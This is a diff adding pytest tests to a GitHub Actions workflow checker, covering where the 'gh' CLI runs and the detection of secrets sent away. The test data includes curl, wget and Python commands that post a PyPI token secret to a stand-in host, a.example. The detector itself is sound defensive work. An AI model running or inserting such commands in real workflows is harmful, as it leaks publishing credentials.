@@ -645,3 +645,71 @@ def test_what_builds_and_uploads_in_one_lacks_no_files(step, found):
     assert {
         one.id for one in told if isinstance(one, Finding) and one.severity is not Severity.ADVICE
     } - {"action-node", "tool-not-installed"} == found
+
+
+GH_AFTER_CHECKOUT = """
+on: {release: {types: [published]}}
+jobs:
+  publish:
+    runs-on: ubuntu-latest
+    environment: pypi
+    permissions: {id-token: write, contents: write}
+    %s
+    steps:
+      - uses: actions/checkout@v6
+        with: {path: "%s"}
+      - uses: pypa/gh-action-pypi-publish@release/v1
+      - run: gh release upload "$TAG" dist/*
+        env: {GH_TOKEN: "${{ github.token }}"}
+        working-directory: %s
+"""
+
+
+@pytest.mark.parametrize(
+    ("defaults", "path", "folder", "count"),
+    [
+        ("", "source", ".", 1),
+        ("", "source", "other", 1),
+        ("", "source", "source/tools", 0),
+        ("", ".", "dist", 0),
+        ("", "${{ github.workspace }}/x", ".", 0),
+        ("defaults: {run: {working-directory: source}}", "source", ".", 0),
+    ],
+)
+def test_gh_knows_the_repository_where_one_is_checked_out(defaults, path, folder, count):
+    text = GH_AFTER_CHECKOUT % (defaults, path, folder)
+    told = check_workflow(parse_workflow(text, file=FILE), WorkflowFacts())
+    found = [one for one in told if one.id == "gh-not-ready" and isinstance(one, Finding)]
+    assert len(found) == count
+
+
+SENDER = """
+on: {workflow_dispatch: }
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    steps:
+      - env: {T: "${{ secrets.PYPI_TOKEN }}"}
+        run: RUN
+"""
+
+
+@pytest.mark.parametrize(
+    ("run", "count"),
+    [
+        ('curl -d "$T" https://a.example', 1),
+        ('wget --post-data="$T" https://a.example', 1),
+        ("python -c \"requests.post('https://a.example', data='${T}')\"", 1),
+        ('curl -u "__token__:$T" https://upload.pypi.org/legacy/', 0),
+        ("curl https://a.example", 0),
+    ],
+)
+def test_every_program_that_sends_the_secret_away_is_seen(run, count):
+    publish = f"on:\n{ON_RELEASE}\njobs:{WAITING}"
+    other = parse_workflow(
+        SENDER.replace("RUN", "|\n          " + run), file=".github/workflows/other.yml"
+    )
+    facts = WorkflowFacts(others=(other,))
+    told = check_workflow(parse_workflow(publish, file=FILE), facts)
+    found = [one for one in told if one.id == "secret-sent-away" and isinstance(one, Finding)]
+    assert len(found) == count
